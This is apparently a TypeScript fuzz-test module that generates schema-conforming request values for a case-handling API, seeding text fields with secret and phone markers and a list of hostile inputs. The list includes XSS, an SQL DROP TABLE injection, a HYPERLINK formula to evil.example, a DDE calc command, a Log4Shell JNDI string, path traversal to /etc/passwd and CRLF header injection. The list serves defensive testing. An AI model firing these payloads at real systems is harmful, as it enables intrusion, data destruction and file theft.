import * as fc from 'fast-check';
import type { Schema } from './operations.ts';

/** Stands for the mark of one request, put in when it is sent: whatever was refused must leave none behind. */
export const MARK = 'xqMARKqx';
/** Stands beside a classification mark (H6): it may lie nowhere, whatever the answer. */
export const SECRET_MARK = 'xqSECRETqx';
/** Stands for a phone number of this request alone: masked before anything is written (H5). */
export const PHONE = 'xqPHONEqx';

/** What people with ill intent, and unlucky ones, put into a field. */
export const NASTY = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE cases; --",
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|’ /C calc’!A0',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '\u202egnp.exe',
  '\u200b\u200d\ufeff',
  '😀🏽👨‍👩‍👧‍👦',
  'ＢＬ２６０００１',
  'a\u0301\u0302\u0303',
  '\ud800',
  'null',
  '__proto__',
  'constructor',
  '%00',
  'MATTER#BL2600001',
  '{% $states.input %}',
  '  ',
  '\r\nset-cookie: a=b',
];

/** Ids that the running stack knows, by the name of the field. */
export type Known = Readonly<Record<string, readonly string[]>>;

const ID = '^[A-Za-z0-9_.:#-]{1,64}$';
const INSTANTS = [
  '2026-03-20T09:30:00+08:00',
  '1970-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999999Z',
  '2026-02-30T00:00:00Z',
  '0000-01-01T00:00Z',
];

function texts({ minLength = 0, maxLength = 2_000 }: Schema): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom('群众反映夜间施工噪声', '柴桥', '请尽快核实', 'a', '9') },
    { weight: 2, arbitrary: fc.constantFrom(...NASTY) },
    { weight: 1, arbitrary: fc.constant(`电话${PHONE}`) },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  );
  return fc
    .array(piece, { minLength: 1, maxLength: 4 })
    .map((pieces) => `${MARK}${pieces.join(' ')}`.slice(0, Math.max(maxLength, minLength)))
    .map((text) => text.padEnd(minLength, '字'));
}

/** Text of a field: what the stack knows under its name, else made by its pattern. */
function stringOf(schema: Schema, name: string, known: Known): fc.Arbitrary<string> {
  const { pattern, maxLength } = schema;
  if (schema.format === 'date-time' || pattern?.startsWith('^\\d{4}-'))
    return fc.oneof(fc.constantFrom(...INSTANTS), ...recent(known));
  const hints = known[name] ?? [];
  if (pattern === ID)
    return hints.length > 0 ? fc.constantFrom(...hints, 'A1', 'A2') : fc.stringMatching(/^[A-Za-z0-9_.:#-]{1,64}$/);
  if (pattern !== undefined && !pattern.startsWith('^[^')) {
    const made = fc
      .stringMatching(new RegExp(pattern))
      .map((text) => (maxLength === undefined ? text : text.slice(0, maxLength)));
    return hints.length > 0 ? fc.oneof(fc.constantFrom(...hints), made) : made;
  }
  return hints.length > 0 ? fc.oneof(fc.constantFrom(...hints), texts(schema)) : texts(schema);
}

const recent = (known: Known): fc.Arbitrary<string>[] =>
  known['instant']?.length ? [fc.constantFrom(...(known['instant'] ?? []))] : [];

/** Values that fit a schema. */
export function valueOf(schema: Schema, named: Record<string, Schema>, known: Known, name = ''): fc.Arbitrary<unknown> {
  if (schema.$ref !== undefined)
    return valueOf(named[schema.$ref.replace('#/components/schemas/', '')] ?? {}, named, known, name);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map((choice) => valueOf(choice, named, known, name)));
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const types = schema.type === undefined ? [] : [schema.type].flat();
  if (types.length > 1) return fc.oneof(...types.map((type) => valueOf({ ...schema, type }, named, known, name)));
  const [type = 'anything'] = types;
  switch (type) {
    case 'string':
      return stringOf(schema, name, known);
    case 'integer':
      return fc.integer({ min: Math.max(schema.minimum ?? 0, -1_000), max: Math.min(schema.maximum ?? 1_000, 1_000) });
    case 'number':
      return fc.oneof(fc.nat(100_000), fc.double({ noNaN: true, noDefaultInfinity: true }));
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(valueOf(schema.items ?? {}, named, known, name), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, Math.max(3, schema.minItems ?? 0)),
      });
    case 'object':
      return objectOf(schema, named, known);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function objectOf(
  { properties = {}, required = [] }: Schema,
  named: Record<string, Schema>,
  known: Known,
): fc.Arbitrary<unknown> {
  const fields = Object.fromEntries(
    Object.entries(properties).map(([name, inner]) => [name, valueOf(inner, named, known, name)]),
  );
  return fc.record(fields, { requiredKeys: required });
}
